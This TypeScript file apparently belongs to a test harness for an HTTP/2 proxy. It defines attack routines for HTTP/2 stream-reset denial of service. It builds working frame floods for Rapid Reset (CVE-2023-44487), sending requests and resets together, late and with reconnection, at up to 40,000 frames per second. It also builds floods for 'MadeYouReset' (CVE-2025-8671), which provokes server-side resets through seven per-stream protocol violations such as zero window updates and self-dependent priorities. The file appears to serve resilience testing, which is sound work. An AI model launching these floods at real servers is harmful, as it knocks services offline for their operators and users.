import { data, frame, headers, reset, uint32, windowUpdate } from "../../support/frames.ts";
import { SHARED } from "../clusters.ts";
import type { Attack, Tick } from "./attack.ts";
import type { AttackConnection } from "./attack-connection.ts";
import { firstRequest, literalRequest, NEXT_REQUEST } from "./request-blocks.ts";
import { stampIds } from "./stamp-ids.ts";

/** Ticks that a stream lives before it is reset late: about 8 ms, so that it has reached its endpoint. */
const LATE_TICKS = 2;
const MAX_WINDOW = 2 ** 31 - 1;

/** A first stream like the others, which also fills the table. */
function begin(connection: AttackConnection, frames: (block: Buffer, id: number) => readonly Buffer[]): void {
  const parts = frames(firstRequest(SHARED), connection.open());
  connection.greet({}, ...parts);
}

function openMany(connection: AttackConnection, count: number): number[] {
  return Array.from({ length: count }, () => connection.open());
}

/** CVE-2023-44487: request and reset in the same write. */
function resetAtOnce(connection: AttackConnection): Tick {
  const unit = (block: Buffer, id: number) => [headers(id, block, { end: true }), reset(id, "CANCEL")];
  begin(connection, unit);
  const pair = Buffer.concat(unit(NEXT_REQUEST, 1));
  return (count) => {
    const ids = openMany(connection, Math.ceil(count / 2));
    connection.send(stampIds(pair, ids), ids.length * 2);
  };
}

/** What ends a stream of this attack; `frames` of them for one id. */
interface Violation {
  readonly request: Buffer;
  readonly octets: Buffer;
  readonly frames: number;
}

/** Opens streams, and some milliseconds later does to each of them what makes the proxy, or us, reset it. */
function endLate(connection: AttackConnection, violation: Violation): Tick {
  const waiting: number[][] = [];
  return (count) => {
    const ids = openMany(connection, Math.max(1, Math.floor(count / (1 + violation.frames))));
    const parts = [stampIds(violation.request, ids)];
    let frames = ids.length;
    waiting.push(ids);
    if (waiting.length > LATE_TICKS) {
      const due = waiting.shift()!;
      parts.push(stampIds(violation.octets, due));
      frames += due.length * violation.frames;
    }
    connection.send(Buffer.concat(parts), frames);
  };
}

/** CVE-2023-44487, when the streams have reached an endpoint. */
function resetLate(connection: AttackConnection): Tick {
  begin(connection, (block, id) => [headers(id, block)]);
  return endLate(connection, {
    request: headers(1, NEXT_REQUEST),
    octets: reset(1, "CANCEL"),
    frames: 1,
  });
}

/**
 * Ways to make a server reset a stream that the client does not reset itself (CVE-2025-8671, "MadeYouReset"); each breaks a
 * rule of one stream only.
 */
const PROVOCATIONS = {
  "window-update-of-0": {
    request: headers(1, NEXT_REQUEST),
    octets: windowUpdate(1, 0),
    frames: 1,
  },
  "window-overflow": {
    request: headers(1, NEXT_REQUEST),
    octets: windowUpdate(1, MAX_WINDOW),
    frames: 1,
  },
  "beyond-content-length": {
    request: headers(1, literalRequest(SHARED, { "content-length": "1" })),
    octets: data(1, "two"),
    frames: 1,
  },
  "headers-when-half-closed": {
    request: headers(1, NEXT_REQUEST),
    octets: Buffer.concat([data(1, "x", { end: true }), headers(1, NEXT_REQUEST, { end: true })]),
    frames: 2,
  },
  "data-when-half-closed": {
    request: headers(1, NEXT_REQUEST),
    octets: Buffer.concat([data(1, "x", { end: true }), data(1, "y")]),
    frames: 2,
  },
  "trailers-without-end": {
    request: headers(1, NEXT_REQUEST),
    octets: headers(1, Buffer.of(0, 1, 0x78, 1, 0x79)),
    frames: 1,
  },
  "depends-on-itself": {
    request: headers(1, NEXT_REQUEST),
    octets: frame("PRIORITY", 0, 1, Buffer.concat([uint32(1), Buffer.of(15)])),
    frames: 1,
  },
} as const satisfies Record<string, Violation>;

type Provocation = keyof typeof PROVOCATIONS;

function provoke(way: Provocation): Attack["play"] {
  return (connection) => {
    begin(connection, (block, id) => [headers(id, block, { end: true })]);
    if (way !== "depends-on-itself") return endLate(connection, PROVOCATIONS[way]);
    // The stream that depends on itself is not the same in every repetition.
    const ends = (ids: readonly number[]) =>
      Buffer.concat(ids.map((id) => frame("PRIORITY", 0, id, Buffer.concat([uint32(id), Buffer.of(15)]))));
    return (count) => {
      const ids = openMany(connection, Math.ceil(count / 2));
      connection.send(Buffer.concat([stampIds(PROVOCATIONS[way].request, ids), ends(ids)]), ids.length * 2);
    };
  };
}

/** All ways in turn, one stream each. */
function provokeInTurn(connection: AttackConnection): Tick {
  const ways: readonly Violation[] = [
    PROVOCATIONS["window-update-of-0"],
    PROVOCATIONS["window-overflow"],
    PROVOCATIONS["beyond-content-length"],
    PROVOCATIONS["headers-when-half-closed"],
  ];
  begin(connection, (block, id) => [headers(id, block, { end: true })]);
  const ticks = ways.map((way) => endLate(connection, way));
  return (count) => {
    for (const tick of ticks) tick(Math.ceil(count / ticks.length));
  };
}

/** Resets in bursts that one connection may well have, then a new connection: what counts is the caller. */
function resetAndReconnect(connection: AttackConnection): Tick {
  const tick = resetAtOnce(connection);
  return (count) => {
    tick(count);
    if (connection.frames > 400) connection.leave();
  };
}

const FLOOD = { framesPerSecond: 20_000, connections: 1 } as const;

export const RESET_ATTACKS = {
  "rapid-reset": { ...FLOOD, framesPerSecond: 40_000, play: resetAtOnce },
  "rapid-reset-late": { ...FLOOD, play: resetLate },
  "rapid-reset-reconnecting": { ...FLOOD, connections: 4, play: resetAndReconnect },
  "made-you-reset": { ...FLOOD, play: provokeInTurn },
  ...(Object.fromEntries(
    Object.keys(PROVOCATIONS).map((way) => [
      `made-you-reset, ${way}`,
      { ...FLOOD, play: provoke(way as Provocation) },
    ]),
  ) as Record<`made-you-reset, ${Provocation}`, Attack>),
} as const satisfies Record<string, Attack>;
